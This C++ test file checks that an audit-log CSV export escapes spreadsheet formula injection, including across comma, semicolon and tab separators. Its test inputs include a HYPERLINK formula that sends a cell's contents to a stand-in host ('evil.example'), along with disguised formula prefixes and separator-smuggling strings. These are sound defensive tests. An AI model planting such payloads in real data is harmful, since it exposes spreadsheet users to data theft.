#include "flow/audit/print_audit.hpp"

#include <doctest/doctest.h>

#include <vector>

#include "identity/spelling/comparison_form.hpp"

namespace {

using Fields = std::vector<std::string>;

/// The rows of a file as a spreadsheet reads it: a quote counts only at the beginning of a field, and what follows the
/// closing quote belongs to the field.
std::vector<Fields> read_csv(std::string_view file, char separator) {
  std::vector<Fields> rows{{""}};
  bool is_quoted = false;
  bool is_begin = true;
  for (std::size_t i = 0; i < file.size(); ++i) {
    const char c = file[i];
    std::string& field = rows.back().back();
    if (is_quoted) {
      const bool is_doubled = c == '"' && i + 1 < file.size() && file[i + 1] == '"';
      if (c != '"' || is_doubled) field += c;
      if (is_doubled) ++i;
      is_quoted = c != '"' || is_doubled;
    } else if (c == '"' && is_begin) {
      is_quoted = true;
      is_begin = false;
    } else if (c == separator) {
      rows.back().emplace_back();
      is_begin = true;
    } else if (c == '\n' || c == '\r') {
      rows.push_back({""});
      is_begin = true;
    } else {
      field += c;
      is_begin = false;
    }
  }
  std::erase_if(rows, [](const Fields& row) { return row == Fields{""}; });
  return rows;
}

bool is_formula(std::string_view field) {
  const std::string form = identity::comparison_form(field);  // full-width signs become narrow
  const std::string_view seen = identity::trimmed(form);
  return !seen.empty() && std::string_view("=+-@").find(seen.front()) != std::string_view::npos;
}

flow::AuditRow failed_login() {
  flow::AuditRow row;
  row.event.seq = 7;
  row.event.at = base::parse_rfc3339("2026-11-21T09:00:07Z").value();
  row.event.type = "login";
  row.event.outcome = "failure";
  row.event.request_id = "r-1";
  row.event.personal = R"({"ip":"192.0.2.7"})";
  return row;
}

}  // namespace

TEST_CASE("an export opens in a spreadsheet without becoming a formula, whatever somebody typed") {
  flow::AuditRow row = failed_login();
  row.event.typed = "=HYPERLINK(\"https://evil.example\")";
  row.actor_name = "=1+1";
  row.subject_name = "say \"hello\", twice";
  const std::string line = flow::audit_csv_line(row);
  const std::string expected =
      R"csv("7","2026-11-21T09:00:07.000Z","login","failure","'=1+1","","say ""hello"", twice","","","","",)csv"
      R"csv("192.0.2.7","r-1","typed==HYPERLINK(""https://evil.example"")","")csv"
      "\r\n";
  CHECK(line == expected);
  for (const char* evil : {"=a", "+a", "-a", "@a", " =a", "\u00a0=a", "\u200b=a", "\u3000@a", "＝a", "＋a", "－a",
                           "＠a", "\u2212a", " ＝a", "\xff=a"}) {
    row.actor_name = evil;
    CHECK_MESSAGE(flow::audit_csv_line(row).find("\"'" + std::string(evil)) != std::string::npos, evil);
  }
  for (const char* harmless : {"jan.nowak", "a=b", "Żółć-Nowak", "7"}) {
    row.actor_name = harmless;
    CHECK(flow::audit_csv_line(row).find("\"" + std::string(harmless) + "\"") != std::string::npos);
  }
  CHECK(flow::audit_json_line(row).find("\"request\":\"r-1\"") != std::string::npos);
  // Names change and are given to others; ids are not.
  row.event.actor = base::Id::make(base::now());
  row.event.subject = base::Id::make(base::now());
  row.event.session = base::Id::make(base::now());
  for (const auto& id : {row.event.actor, row.event.subject, row.event.session}) {
    CHECK(flow::audit_csv_line(row).find("\"" + id->to_string() + "\"") != std::string::npos);
    CHECK(flow::audit_json_line(row).find("\"" + id->to_string() + "\"") != std::string::npos);
  }
  CHECK(flow::audit_json_line(row).back() == '\n');
}

TEST_CASE("an export has one row an event and no formula for a program that separates by commas, semicolons or tabs") {
  std::string file = flow::audit_csv_header();
  const std::vector<std::string> evil{"x;=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
                                      "y\n=1+1",
                                      "y\r=1+1",
                                      "y\t=1+1",
                                      "y\u2028=1+1",
                                      "y\u0085=1+1",
                                      "\";=1+1;\"",
                                      "\",=1+1",
                                      "a\";\n\"=1+1"};
  for (const std::string& text : evil) {
    flow::AuditRow row = failed_login();
    row.actor_name = row.subject_name = row.event.client = row.event.request_id = row.event.typed = text;
    row.event.personal = R"json({"ip":"192.0.2.7","agent":"Mozilla;=1+9;@SUM(3)"})json";
    row.event.data = R"({"reason":"wrong_password","method":"password"})";
    file += flow::audit_csv_line(row);
  }
  const auto by_commas = read_csv(file, ',');
  REQUIRE(by_commas.size() == evil.size() + 1);
  for (const Fields& row : by_commas) CHECK(row.size() == by_commas.front().size());
  CHECK(by_commas[1].front() == "7");
  for (const char separator : {',', ';', '\t'}) {
    const auto rows = read_csv(file, separator);
    CHECK_MESSAGE(rows.size() == evil.size() + 1, separator);
    for (const Fields& row : rows) {
      for (const std::string& field : row) CHECK_MESSAGE(!is_formula(field), field);
    }
  }
  // U+0085 and U+2028 end a line for some programs, although not for the reader above.
  CHECK(file.find("\u2028") == std::string::npos);
  CHECK(file.find("\u0085") == std::string::npos);
}
